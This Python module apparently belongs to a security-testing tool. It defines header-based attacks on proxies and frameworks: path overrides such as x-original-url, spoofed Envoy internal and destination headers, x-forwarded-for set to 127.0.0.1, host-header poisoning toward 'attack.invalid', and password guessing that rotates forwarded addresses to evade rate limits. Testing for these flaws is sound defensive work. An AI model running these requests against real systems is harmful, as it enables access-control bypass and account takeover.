"""Headers by which proxies tell each other of the way that a request came, and frameworks believe them."""

from collections.abc import Callable
from typing import Final

from pillion.attack import people, wire
from pillion.attack.judge import let_in
from pillion.attack.likeness import likeness
from pillion.attack.outcome import Attack, CannotBeTriedError, Family, Outcome, held, through, unclear
from pillion.attack.target import Account, Target

_EVIL: Final = "attack.invalid"
_OVERRIDE: Final = "CVE-2018-14773; CWE-436"
_ENVOY: Final = "CVE-2019-18802; CWE-348"
_HEARSAY: Final = "CWE-644"
_DISCOVERY: Final = "/.well-known/openid-configuration"
# More than identity allows for one account.
_TRIES: Final = 8


def _control(target: Target) -> str | None:
    field = f"Authorization: Bearer {target.token}"
    return let_in(wire.request(target.edge, "GET", target.places.protected.path, field))


def _overridden(name: str) -> Attack:
    def run(target: Target) -> Outcome:
        answer = wire.request(
            target.edge, "GET", target.places.open.path, f"{name}: {target.places.protected.path}"
        )
        like = likeness(target)
        return like.judged(answer)

    return Attack(name, _OVERRIDE, "the open path, with the protected one in a header", run)


def _timed_out(target: Target) -> Outcome:
    fields = (
        "x-envoy-upstream-rq-timeout-ms: 0",
        "x-envoy-expected-rq-timeout-ms: 1",
        "x-envoy-upstream-rq-timeout-ms: 1",
    )
    answers = [wire.request(target.edge, "GET", target.places.open.path, *fields) for _ in range(3)]
    late = next((one for one in answers if one.status in {408, 504}), None)
    return through(f"{late}: our time-out was obeyed") if late else held(str(answers[0]))


def _another_upstream(target: Target) -> Outcome:
    """Name the address of the protected service itself as where the request is to go."""
    where = next((door for door in target.services if door.name == target.places.protected.service), None)
    if where is None:
        raise CannotBeTriedError("the protected path is no service's with a port")
    address = f"{where.host}:{where.port}"
    fields = (
        f"x-envoy-original-dst-host: {address}",
        f"x-host-override: {address}",
        f"x-forwarded-host: {address}",
    )
    return likeness(target).judged(wire.request(target.edge, "GET", target.places.protected.path, *fields))


def _marked_internal(target: Target) -> Outcome:
    fields = (
        "x-envoy-internal: true",
        "x-envoy-external-address: 127.0.0.1",
        "x-envoy-peer-metadata-id: edge",
    )
    return likeness(target).judged(wire.request(target.edge, "GET", target.places.protected.path, *fields))


def _from_this_machine(target: Target) -> Outcome:
    fields = (
        "x-forwarded-for: 127.0.0.1",
        "x-real-ip: 127.0.0.1",
        "forwarded: for=127.0.0.1",
        "true-client-ip: 127.0.0.1",
    )
    return likeness(target).judged(wire.request(target.edge, "GET", target.places.protected.path, *fields))


def _poisoned(*fields: str) -> Callable[[Target], Outcome]:
    """Ask where addresses are written that others believe: they must be the origin's."""

    def run(target: Target) -> Outcome:
        page = ("Accept: text/html", "Sec-Fetch-Mode: navigate")
        answers = [
            wire.request(target.edge, "GET", _DISCOVERY, *fields),
            wire.request(target.edge, "GET", target.places.protected.path, *page, *fields),
        ]
        for answer in answers:
            if _EVIL.encode() in answer.body or _EVIL in answer.header("location"):
                return through(f"{answer}: it names {_EVIL}")
            if answer.status is not None and answer.status >= 500:
                return unclear(str(answer))
        return held("; ".join(map(str, answers)))

    return run


def _other_limits(field: Callable[[int], str]) -> Callable[[Target], Outcome]:
    """Guess an account's password from one address, each time as if from another."""

    def run(target: Target) -> Outcome:
        if target.elsewhere is None:
            raise CannotBeTriedError("there is no other address to try this from: it would lock this one out")
        door = target.edge.seen_from(target.elsewhere)
        wrong = Account(target.other.email, "a guess")
        answers = [people.try_to_sign_in(door, wrong, field(number)) for number in range(_TRIES)]
        if any(one.status == 429 for one in answers):
            return held(f"{answers[-1]} at the latest after {_TRIES} guesses")
        return through(f"{answers[-1]}: {_TRIES} guesses, and none was held up")

    return run


FAMILY: Final = Family(
    "orders to proxies",
    _control,
    (
        *(
            _overridden(name)
            for name in (
                "x-original-url",
                "x-original-uri",
                "x-rewrite-url",
                "x-envoy-original-path",
                "x-forwarded-uri",
            )
        ),
        Attack("x-envoy-upstream-rq-timeout-ms", _ENVOY, "a time-out of a millisecond", _timed_out),
        Attack(
            "x-envoy-original-dst-host",
            _ENVOY,
            "the protected service's own address in a header",
            _another_upstream,
        ),
        Attack("x-envoy-internal", _ENVOY, "a request that says it comes from inside", _marked_internal),
        Attack(
            "x-forwarded-for: 127.0.0.1",
            _HEARSAY,
            "a request that says it comes from this machine",
            _from_this_machine,
        ),
        Attack(
            "x-forwarded-host",
            "CWE-644; CWE-640",
            "another host, for links and redirects",
            _poisoned(f"x-forwarded-host: {_EVIL}", f"x-host: {_EVIL}"),
        ),
        Attack(
            "forwarded: host",
            "RFC 7239, section 8.1",
            "the same, in the standard's words",
            _poisoned(f"forwarded: host={_EVIL};proto=https"),
        ),
        Attack(
            "x-forwarded-prefix",
            _HEARSAY,
            "another prefix, for links and redirects",
            _poisoned(f"x-forwarded-prefix: //{_EVIL}", f"x-forwarded-server: {_EVIL}"),
        ),
        Attack("Host", "CWE-644; CWE-640", "another host in Host", _poisoned(f"Host: {_EVIL}")),
        Attack(
            "guessing with x-forwarded-for",
            "CWE-307; CWE-348",
            "one account's password, as if from many addresses",
            _other_limits(lambda number: f"x-forwarded-for: 198.51.100.{number}"),
        ),
    ),
)
